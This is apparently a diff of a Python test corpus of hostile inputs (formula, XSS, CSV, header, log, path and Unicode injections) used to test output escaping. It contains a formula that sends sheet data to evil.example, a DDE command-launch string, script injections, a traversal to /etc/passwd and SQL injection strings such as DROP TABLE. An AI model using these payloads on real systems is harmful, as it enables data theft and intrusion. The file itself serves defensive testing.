@@ -1,17 +1,17 @@
-"""Texts that an attacker, an editor or a broken service may put wherever a text goes, by what they aim at.
+"""Hostile texts that an attacker, an editor or a broken service may send in any field, grouped by what they target.
 
-Families after OWASP's pages on CSV, HTML (XSS), log and header injection and path traversal; the texts are our own.
+The groups follow OWASP's pages on CSV, HTML (XSS), log and header injection and path traversal; the texts are our own.
 """
 
 from dataclasses import dataclass
 from enum import StrEnum
 
-# What a page, a log line or a sheet must never act on, to be found again wherever it comes out.
+# A mark in the texts, to find in any output what a page, a log line or a sheet must never interpret.
 MARK = "xq9z"
 
 
 class Kind(StrEnum):
-    """What a text aims at."""
+    """What a text targets."""
 
     FORMULA = "formula"
     HTML = "html"
@@ -26,15 +26,15 @@ class Kind(StrEnum):
 
 @dataclass(frozen=True, slots=True)
 class Hostile:
-    """One text, what it aims at, and why it could come true."""
+    """One text, what it targets, and why it may succeed."""
 
     kind: Kind
     text: str
     why: str
 
     def __str__(self) -> str:
-        shown = ascii(self.text)
-        return f"{self.kind}-{shown if len(shown) < 40 else shown[:40]}"
+        text = ascii(self.text)
+        return f"{self.kind}-{text if len(text) < 40 else text[:40]}"
 
 
 def _of(kind: Kind, *texts: tuple[str, str]) -> list[Hostile]:
@@ -45,10 +45,10 @@ CORPUS: list[Hostile] = [
     *_of(
         Kind.FORMULA,
         (f"=1+1+{MARK}", "a formula in every spreadsheet"),
-        ("=1+1", "one that works out, so that a number would stand there"),
-        ('=IMPORTDATA("https://evil.example/?"&A1)', "sends what stands in the sheet to somebody"),
+        ("=1+1", "one with a result, so that the cell would show a number"),
+        ('=IMPORTDATA("https://evil.example/?"&A1)', "sends the sheet's content to somebody"),
         ('=IMPORTXML("https://evil.example/", "//a")', "fetches from somebody"),
-        ('=IMAGE("https://evil.example/p.png?"&B2)', "sends by loading a picture"),
+        ('=IMAGE("https://evil.example/p.png?"&B2)', "sends by loading an image"),
         ('=HYPERLINK("https://evil.example/", "Error: sign in again")', "a link that looks like the report's own"),
         ('=QUERY(IMPORTRANGE("x","Customers!A:Z"),"select *")', "reads other spreadsheets"),
         ("=cmd|' /C calc'!A0", "starts a program in other spreadsheets (DDE)"),
@@ -68,27 +68,27 @@ CORPUS: list[Hostile] = [
         ("＋1", "a full-width plus"),
         ("－1", "a full-width minus"),
         ("＠SUM(1)", "a full-width at sign"),
-        ("'=1+1", "an apostrophe, which typing would take away"),
+        ("'=1+1", "an apostrophe, which typing would remove"),
         ("''=1+1", "two of them"),
-        ('"=1+1"', "quotation marks, which an importer would take away"),
+        ('"=1+1"', "quotation marks, which an importer would remove"),
         ("={1;2;3}", "an array that would fill its neighbours"),
         ("=ARRAYFORMULA(A:A)", "likewise"),
         ("=A1", "a reference to itself"),
-        ("={row}", "the mark by which our own formulas name their row"),
+        ("={row}", "the placeholder by which our own formulas name their row"),
         ("=SPARKLINE(A{row}:B{row})", "our own formula"),
         ("=", "an equals sign alone"),
-        ("#REF!", "an error value by its looks"),
+        ("#REF!", "looks like an error value"),
         ("#N/A", "likewise"),
     ),
     *_of(
         Kind.TYPED,
-        ("1", "a number by its looks"),
-        ("0", "a number that could pass for false"),
-        ("007", "a number with zeros that would be lost"),
+        ("1", "looks like a number"),
+        ("0", "a number that may be taken for false"),
+        ("007", "a number that would lose its leading zeros"),
         ("5.10", "a number that would be shortened"),
         ("1e5", "a number in another notation"),
-        ("1E400", "a number beyond all numbers"),
-        ("0x1F", "a number to other languages"),
+        ("1E400", "a number that overflows"),
+        ("0x1F", "a number in other languages"),
         ("1,234", "a number with a separator"),
         ("12%", "a share"),
         ("$12", "a sum of money"),
@@ -100,7 +100,7 @@ CORPUS: list[Hostile] = [
         ("None", "likewise"),
         ("undefined", "likewise"),
         ("2026-11-23", "a date"),
-        ("11/23", "a date in other orders"),
+        ("11/23", "a date in other formats"),
         ("MAR1", "a gene to some, a date to others"),
         ("Mar 2026", "a month"),
         ("2026-11", "the header of a column of ours"),
@@ -117,7 +117,7 @@ CORPUS: list[Hostile] = [
         Kind.HTML,
         (f"<script>{MARK}()</script>", "a script"),
         (f"</script><script>{MARK}()</script>", "out of a script, into a new one"),
-        (f"<img src=x onerror={MARK}()>", "a picture that fails and runs"),
+        (f"<img src=x onerror={MARK}()>", "an image that fails and runs a script"),
         (f"<svg/onload={MARK}()>", "likewise, without a space"),
         (f"<{MARK}>", "an element"),
         (f'" onmouseover="{MARK}()', "out of an attribute in double quotes"),
@@ -132,23 +132,23 @@ CORPUS: list[Hostile] = [
         (f"</style><{MARK}>", "out of the style sheet"),
         (f"</p></li></ul></section></main><{MARK}>", "out of whatever is open"),
         ("<plaintext>", "all that follows as text"),
-        (f"<base href=https://{MARK}.example/>", "turns the form to another site"),
-        (f"<meta http-equiv=refresh content=0;url=https://{MARK}.example/>", "leads away"),
+        (f"<base href=https://{MARK}.example/>", "redirects the form to another site"),
+        (f"<meta http-equiv=refresh content=0;url=https://{MARK}.example/>", "redirects to another site"),
         (f"<form action=https://{MARK}.example/><input name=customer_id>", "a form around ours"),
         ("javascript:alert(1)", "an address that runs"),
-        ("&lt;b&gt;", "a text that is escaped already and must come out as it is"),
+        ("&lt;b&gt;", "a text that is escaped already and must stay as it is"),
         ("&#x3C;b&#x3E;", "likewise"),
         ("{{ 7 * 7 }}", "an expression of the template"),
-        ("{% include 'style.css' %}", "an order to the template"),
+        ("{% include 'style.css' %}", "a statement of the template"),
         ("{# x #}", "a comment of the template"),
         ("${7*7}", "an expression of other templates"),
-        ("%(detail)s {0.__class__} {detail}", "an order to Python's formatting"),
+        ("%(detail)s {0.__class__} {detail}", "a placeholder of Python's formatting"),
     ),
     *_of(
         Kind.CSV,
         ("a,b", "two cells"),
         ('a","b', "out of a quoted cell"),
-        ("a;b", "two cells elsewhere"),
+        ("a;b", "two cells in other locales"),
         ("a\tb", "two cells when pasted"),
         ("a\nb", "two rows"),
         ('"a\r\n=1+1,"', "a row with a formula"),
@@ -158,38 +158,38 @@ CORPUS: list[Hostile] = [
         (f"a\r\nX-{MARK}: 1", "a second header"),
         (f"a\nX-{MARK}: 1", "likewise, where a line feed is enough"),
         (f"a\rX-{MARK}: 1", "likewise, a carriage return"),
-        (f"a\r\n\r\n<{MARK}>", "a second answer"),
+        (f"a\r\n\r\n<{MARK}>", "a second response"),
         (f"a%0d%0aX-{MARK}: 1", "a second header, decoded too late"),
         (f"a\u560d\u560aX-{MARK}: 1", "characters that become line ends when cut to bytes"),
-        ("a\x00b", "a NUL, at which others stop reading"),
+        ("a\x00b", "a NUL, at which other programs stop reading"),
     ),
     *_of(
         Kind.PATH,
-        (".", "the address itself"),
-        ("..", "the address above"),
+        (".", "the path itself"),
+        ("..", "the parent path"),
         ("../../x", "two above"),
-        ("..\\..\\x", "likewise, in another tongue"),
+        ("..\\..\\x", "likewise, on another system"),
         ("a/b", "two segments"),
         ("/a", "from the root"),
         ("//evil.example/a", "another host"),
         ("\\\\evil.example\\a", "likewise"),
-        ("https://evil.example/a", "a whole address"),
-        ("@evil.example", "all before it as a user's name"),
+        ("https://evil.example/a", "a complete URL"),
+        ("@evil.example", "everything before it as a user name"),
         (":443", "a port"),
         ("a?x=1", "a query"),
         ("a&customer_id=b", "a further parameter"),
         ("a#b", "a fragment, never sent"),
         ("a;b=1", "a parameter of a segment"),
         ("%2e%2e", "dots, decoded too late"),
-        ("%2e%2e%2fx", "the address above, likewise"),
+        ("%2e%2e%2fx", "the parent path, likewise"),
         ("%252e%252e", "decoded twice"),
-        ("%", "an escape that is none"),
+        ("%", "an invalid escape"),
         ("%zz", "likewise"),
         ("a%00b", "a NUL, decoded too late"),
-        ("．．／x", "full-width dots, which normalising makes plain"),
-        ("a\u2044b", "a slash by its looks"),
+        ("．．／x", "full-width dots, which normalisation makes plain"),
+        ("a\u2044b", "looks like a slash"),
         ("a\u3002b", "a dot to host names"),
-        ("~root", "a home"),
+        ("~root", "a home directory"),
         ("*", "all of them"),
         ("type", "a segment of ours"),
         ("file:///etc/passwd", "a file"),
@@ -208,26 +208,26 @@ CORPUS: list[Hostile] = [
         ("\x1b[2J\x1b[31mred", "clears a terminal"),
         ("\x1b]0;title\x07", "names a terminal's window"),
         ("\x9b31m", "colours in one byte"),
-        ("a\bb", "takes a letter back"),
-        ("severity=CRITICAL", "a field in another notation"),
+        ("a\bb", "deletes a letter"),
+        ("severity=CRITICAL", "a field in another format"),
         ("Authorization: Bearer eyJhbGciOi.J9", "what looks like a secret and is hidden in logs"),
     ),
     *_of(
         Kind.TEXT,
-        ("\u202eevil", "turns the direction of what follows"),
+        ("\u202eevil", "changes the direction of what follows"),
         ("\u2066evil\u2069", "likewise, in isolation"),
         ("evil\u200f", "a mark of direction"),
         ("a\u200bb", "an invisible character within"),
         ("аdmin", "a Cyrillic letter that looks Latin"),
         ("e\u0301", "a letter in two parts"),
         ("Z̗̞͑a͓l̤g̳o̞", "marks over marks"),
-        ("👩\u200d👩\u200d👧", "a picture in five parts"),
-        ("\U0001f3f4\U000e0067\U000e007f", "tags, which nobody sees"),
-        ("\ufffe", "what is no character"),
+        ("👩\u200d👩\u200d👧", "an emoji of five code points"),
+        ("\U0001f3f4\U000e0067\U000e007f", "invisible tags"),
+        ("\ufffe", "a noncharacter"),
         ("\U0010ffff", "likewise, the last one"),
-        ("\ue000", "a character of one's own"),
+        ("\ue000", "a private-use character"),
         ("ﷺ", "a letter as wide as a line"),
-        ("İıßſ", "letters whose case is not what it seems"),
+        ("İıßſ", "letters with unusual case mapping"),
         ("\u0130d", "likewise, in an ID"),
         ("\x7f", "delete"),
         (" ", "a space alone"),
@@ -237,7 +237,7 @@ CORPUS: list[Hostile] = [
         ('"', "one alone"),
         ("\\", "a backslash alone"),
         ("\\u003cb\\u003e", "an escape in JSON, as text"),
-        ("__proto__", "what is not a name everywhere"),
+        ("__proto__", "a name with a meaning in JavaScript"),
         ("constructor", "likewise"),
         ("' OR '1'='1", "a query of a database"),
         ("'; DROP TABLE seats; --", "likewise"),
@@ -247,17 +247,17 @@ CORPUS: list[Hostile] = [
         ("x" * 128, "as long as an ID may be"),
         ("x" * 129, "longer than an ID may be"),
         ("y" * 10_000, "longer than any name"),
-        ("z" * 49_999, "all but as long as a cell may be"),
+        ("z" * 49_999, "almost as long as a cell may be"),
         ("a b\n" * 2_000, "many lines"),
         ("<" * 4_000, "becomes four times as long on a page"),
         ("\U0001f600" * 4_000, "becomes twelve times as long in a log"),
-        ("\u202e" * 4_000, "of which nothing is left"),
+        ("\u202e" * 4_000, "of which nothing remains"),
     ),
 ]
 
-# What JSON can say and no UTF-8 can: only a service's answer may hold it.
+# What JSON can express but UTF-8 can't: only a service's response may contain it.
 HALVES = [
     Hostile(Kind.TEXT, "a\ud800b", "half of a surrogate pair"),
     Hostile(Kind.TEXT, "\udfff\ud800", "two halves in the wrong order"),
-    Hostile(Kind.TEXT, "\udcff", "a byte that was no text"),
+    Hostile(Kind.TEXT, "\udcff", "a byte that was not text"),
 ]
